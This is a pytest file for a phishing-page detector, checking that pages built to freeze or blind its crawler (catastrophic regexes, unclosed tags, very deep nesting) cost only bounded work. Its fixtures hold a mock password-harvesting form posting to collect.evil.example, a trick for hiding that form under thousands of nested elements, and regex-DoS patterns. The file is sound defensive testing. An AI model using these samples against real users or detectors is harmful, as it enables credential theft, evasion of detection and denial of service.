"""Hostile pages at the size caps: bounded work, counted (characters handed to patterns, elements
read, fragments parsed), never timed. Each family is a page that froze or blinded today's crawler
(issue 12): exponential and quadratic regexes, nesting past the parser's limits, user regexes."""

from __future__ import annotations

import re
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from crawler.rendering import decide
from crawler.rendering.decide import needs_rendering
from pipelines import decoding, lures, normalise, scoring, signals, text
from pipelines.decoding import MAX_DECODED_CHARS, MAX_ROUNDS, decode
from pipelines.exceptions import WatchlistError
from pipelines.scoring import MAX_PAGE_CHARS, assess_page
from pipelines.signals import MAX_FRAGMENTS, PARSER_DEPTH_LIMIT, parse_page
from pipelines.watchlists import Watchlists, load_lures, load_watchlists

CAP = MAX_PAGE_CHARS  # the characters of a page the detector judges (2,000,000)
FORM = "<form action='https://collect.evil.example/gate.php'><input type=password name=pw></form>"

# Python re patterns that page content still meets, audited: literal alternations, or a token
# with one run after it, or (normalise, text) an attempt that starts only at a word's first
# character and consumes what it scans: no attempt rescans what another one read
_AUDITED = {
    "pipelines.signals._PLAY_RE",
    "pipelines.signals._TORRENT_HEX",  # a fixed 40-character run after one sign, on 2,048 chars
    "pipelines.scoring._DEFANGED",
    "pipelines.lures._URL_IN_SCRIPT",
    "pipelines.text._WHITESPACE",
    "pipelines.normalise._RELEASE_TOKEN",
    "pipelines.normalise._DIGIT_PREFIX",
    "pipelines.normalise._COMBINING",
    "pipelines.normalise._SPACED",
    "pipelines.normalise._LEET_CANDIDATE",
    "pipelines.normalise._WORDS",
    "crawler.rendering.decide._WRITERS",
    "crawler.rendering.decide._DECODERS",
    "crawler.rendering.decide._BUILDS_FORM",
    "crawler.rendering.decide._JS_REDIRECT",
    "crawler.rendering.decide._ANALYTICS",
}


def _fill(unit: str, head: str = "<html><body>", size: int = CAP) -> str:
    """``head`` then ``unit`` repeated up to ``size`` characters."""
    return head + unit * ((size - len(head)) // len(unit))


class _Counting:
    """A compiled pattern that records the length of every text it is handed."""

    def __init__(self, pattern: Any, seen: list[int]) -> None:
        self._pattern = pattern
        self._seen = seen
        self.pattern = pattern.pattern

    def search(self, text: str, *args: Any) -> Any:
        self._seen.append(len(text))
        return self._pattern.search(text, *args)

    def finditer(self, text: str, *args: Any) -> Iterator[Any]:
        self._seen.append(len(text))
        return self._pattern.finditer(text, *args)


def _page_patterns() -> dict[str, Any]:
    """Every module-level pattern of the modules that read page content, by dotted name."""
    out = {}
    for module in (signals, decoding, lures, scoring, normalise, text, decide):
        for name, value in vars(module).items():
            if hasattr(value, "finditer") and hasattr(value, "pattern"):
                out[f"{module.__name__}.{name}"] = value
    return out


@pytest.fixture
def handed(monkeypatch: pytest.MonkeyPatch) -> list[int]:
    """The lengths of the texts handed to the linear-engine patterns while the test runs."""
    seen: list[int] = []
    patterns = _page_patterns()
    scanners = [f"pipelines.decoding.{name}" for name in decoding.PATTERNS]
    scanners += ["crawler.rendering.decide._SCRIPT", "crawler.rendering.decide._APP_ROOT"]
    # fail before a backtracking scanner gets a page at the cap (that would run for hours)
    assert not any(isinstance(patterns[name], re.Pattern) for name in scanners)
    for dotted, pattern in patterns.items():
        if not isinstance(pattern, re.Pattern):
            module, name = dotted.rsplit(".", 1)
            monkeypatch.setattr(f"{module}.{name}", _Counting(pattern, seen))
    return seen


@pytest.fixture(scope="module")
def wl() -> Watchlists:
    return load_watchlists()


def test_page_content_meets_no_backtracking_pattern() -> None:
    """Patterns that scan to a delimiter are RE2; Python re keeps only the audited ones."""
    patterns = _page_patterns()
    backtracking = {name for name, p in patterns.items() if isinstance(p, re.Pattern)}
    assert backtracking <= _AUDITED
    for name in ("_ATOB", "_UNESCAPE", "_FROMCHARCODE", "_HEX_STRING", "_WRITE"):
        assert f"pipelines.decoding.{name}" in patterns
    assert not isinstance(decide._SCRIPT, re.Pattern) and not isinstance(
        decide._APP_ROOT, re.Pattern
    )


SCRIPT_FAMILIES = {
    # the exponential one: an unclosed unescape('%41%41... (28 of them took 84 s)
    "unescape-unclosed": _fill("%41", "<script>unescape('"),
    "unescape-repeated": _fill("unescape('%41", "<script>"),
    # quadratic: an unclosed string of \x41 escapes (200 KB took 98 s)
    "hex-unclosed": _fill("\\x41", "<script>'"),
    "insertAdjacentHTML-repeated": _fill("insertAdjacentHTML(", "<script>"),
    "document-write-unclosed": _fill('document.write("', "<script>"),
    "fromCharCode-spaces": "<script>String.fromCharCode(" + " " * (CAP - 40) + "x",
    "atob-repeated": _fill("atob('AAAAAAAAAAAA", "<script>"),
}


@pytest.mark.parametrize("page", SCRIPT_FAMILIES.values(), ids=SCRIPT_FAMILIES.keys())
def test_script_families_are_read_in_linear_work(
    page: str, handed: list[int], wl: Watchlists
) -> None:
    result = assess_page(page, "https://x.example/p", wl)
    assert result.verdict == "benign"
    # each pattern reads each script once per decoding round; nothing else reads the script
    assert 0 < sum(handed) <= len(decoding.PATTERNS) * len(page) * 2


@pytest.mark.parametrize("page", SCRIPT_FAMILIES.values(), ids=SCRIPT_FAMILIES.keys())
def test_the_decoders_documented_bound(page: str) -> None:
    scripts = [page.split("<script>", 1)[1]]
    result = decode(scripts)
    bound = len(decoding.PATTERNS) * (len(scripts[0]) + (MAX_ROUNDS - 1) * MAX_DECODED_CHARS)
    assert result.examined <= bound
    assert result.recovered <= MAX_DECODED_CHARS


def test_decoded_layers_stop_at_the_bound_and_say_so() -> None:
    layer = "document.write('<b>x</b>')"
    for _ in range(MAX_ROUNDS + 2):  # each layer writes the next one, percent-encoded
        layer = f"unescape('{''.join(f'%{ord(c):02x}' for c in layer)}')"
    result = decode([layer])
    assert f"scripts decoded {MAX_ROUNDS} layers deep; deeper layers not decoded" in result.notes


def test_recovered_characters_are_bounded_and_said() -> None:
    chunk = "document.write('<b>" + "x" * 100_000 + "</b>');"
    result = decode([chunk * 15])  # 1.5 M characters written
    assert result.recovered <= MAX_DECODED_CHARS
    assert any("1,000,000 recovered characters" in note for note in result.notes)


def test_fragments_parsed_are_bounded(monkeypatch: pytest.MonkeyPatch, wl: Watchlists) -> None:
    parsed: list[int] = []
    real = signals.parse_html

    def counting(html: str) -> Any:
        parsed.append(len(html))
        return real(html)

    monkeypatch.setattr(signals, "parse_html", counting)
    page = _fill("document.write('<b>x</b>');", "<html><body><script>")
    result = assess_page(page, "https://x.example/p", wl)
    assert len(parsed) == 1 + MAX_FRAGMENTS
    assert any(f"only the first {MAX_FRAGMENTS} read" in reason for reason in result.reasons)


RENDER_FAMILIES = {
    # 20,000 unclosed <script> tags (160 KB) took the render decision 48.6 s
    "script-unclosed": _fill("<script>", "<html>", 4 * 1024 * 1024),
    "div-unclosed": _fill("<div", "<html><body><script>x</script>", 4 * 1024 * 1024),
    "div-id-unclosed": _fill("<div id=", "<html><body><script>x</script>", 4 * 1024 * 1024),
    "script-attributes-unclosed": _fill("<script a", "<html>", 4 * 1024 * 1024),
}


@pytest.mark.parametrize("page", RENDER_FAMILIES.values(), ids=RENDER_FAMILIES.keys())
def test_render_decision_in_linear_work(page: str, handed: list[int]) -> None:
    needs_rendering(page)  # the landing/render cap: 4 MiB
    assert 0 < sum(handed) <= 4 * len(page)


def _nested(depth: int, inner: str, tag: str = "div") -> str:
    return f"<html><body><p>before</p>{f'<{tag}>' * depth}{inner}{f'</{tag}>' * depth}<p>after</p>"


@pytest.mark.parametrize("depth", [252, 253, 300, 1000])
def test_a_form_nested_past_the_old_limit_is_found(depth: int, wl: Watchlists) -> None:
    result = assess_page(_nested(depth, FORM), "https://x.example/p", wl)
    assert result.sso_lure, result.reasons  # 253 <div>s used to hide it (score 0)


@pytest.mark.parametrize("tag", ["div", "button", "x-box"])
def test_a_form_past_the_parsers_own_limit_is_found(tag: str) -> None:
    """libxml2 gives up at 2048 elements deep and drops the rest of the page: parsed again."""
    doc = parse_page(_nested(3000, FORM, tag), "https://x.example/p")
    assert [f.action for f in doc.forms] == ["https://collect.evil.example/gate.php"]
    assert "before" in doc.text and "after" in doc.text
    assert doc.depth == PARSER_DEPTH_LIMIT
    assert any("parsed again" in note for note in doc.notes)


def test_extreme_nesting_is_itself_evidence(wl: Watchlists) -> None:
    weak = "<form><input type=password name=pw></form>"  # a credential form alone: 20
    depth = parse_page(_nested(300, weak), "https://x.example/p").depth
    deep = assess_page(_nested(300, weak), "https://x.example/p", wl)
    flat = assess_page(_nested(3, weak), "https://x.example/p", wl)
    assert depth > 300 and f"elements nested {depth} deep (evasion)" in deep.reasons
    assert deep.score == flat.score + wl.thresholds.lure_weights["deep_nesting"]
    assert not any("nested" in reason for reason in flat.reasons)
    past = assess_page(_nested(3000, FORM), "https://x.example/p", wl)
    assert f"elements nested {PARSER_DEPTH_LIMIT}+ deep (evasion)" in past.reasons


def test_wording_of_nested_controls_is_bounded() -> None:
    """2,000 nested onclick <div>s around the page's text: each control's wording is capped."""
    page = "<html><body>" + "<div onclick='go()'>" * 2000 + "y" * (CAP - 50_000)
    doc = parse_page(page, "https://x.example/p")
    assert len(doc.buttons) == 2000
    assert max(len(text) for text, _ in doc.buttons) <= signals._MAX_WORDING


def test_visible_text_walks_each_element_twice(monkeypatch: pytest.MonkeyPatch) -> None:
    """2,000 elements deep, 200,000 texts: no ancestor lookups per text (XPath took minutes)."""
    page = "<html><body>" + "<div>" * 2000 + "<b>x</b>" * 200_000
    root = text.parse_html(page)
    assert root is not None
    events: list[int] = []
    real = text.lxml.etree.iterwalk

    def counting(*args: Any, **kw: Any) -> Iterator[Any]:
        for event in real(*args, **kw):
            events.append(1)
            yield event

    monkeypatch.setattr(text.lxml.etree, "iterwalk", counting)
    words = text.visible_text(root).split()
    assert len(words) == 200_000
    assert 0 < len(events) <= 2 * sum(1 for _ in root.iter())


def test_nested_headings_are_read_once_within_a_bound() -> None:
    page = "<html><body>" + "<h1>Watch" * 2000 + " y" * (CAP // 3)
    doc = parse_page(page, "https://x.example/p")
    assert doc.headings.startswith(" Watch Watch")
    assert len(doc.headings) <= signals._MAX_HEADINGS


def _lures_file(tmp_path: Path, pattern: str) -> Path:
    path = tmp_path / "lures.yaml"
    path.write_text(
        "providers:\n  google: {names: [google], domains: [google.com]}\n"
        f"collection_endpoints:\n  - 'gate\\.php'\n  - '{pattern}'\n",
        encoding="utf-8",
    )
    return path


@pytest.mark.parametrize(
    "pattern", [r"(a)\1", r"(?=gate)gate", r"(?<!x)gate", r"(?P<q>a)(?P=q)", r"a*+b"]
)
def test_lure_regexes_a_linear_engine_cannot_run_are_refused(tmp_path: Path, pattern: str) -> None:
    path = _lures_file(tmp_path, pattern)
    with pytest.raises(WatchlistError) as err:
        load_lures(path)
    assert str(err.value).startswith(f"{path}:5: collection_endpoints: invalid regular expression")
    assert "RE2" in str(err.value)


@pytest.mark.parametrize("pattern", [r"(a+)+$", r"(a|a)*$", r"(.*)*x", r"(?:\w+\s?)+$"])
def test_nested_quantifiers_compile_to_a_linear_engine(tmp_path: Path, pattern: str) -> None:
    """Catastrophic for Python's re (2^n on "aaa...!"), harmless for RE2: accepted and linear."""
    endpoints = load_lures(_lures_file(tmp_path, pattern)).collection_endpoints
    assert [p.pattern for p in endpoints] == [r"gate\.php", pattern]
    assert not any(isinstance(p, re.Pattern) for p in endpoints)
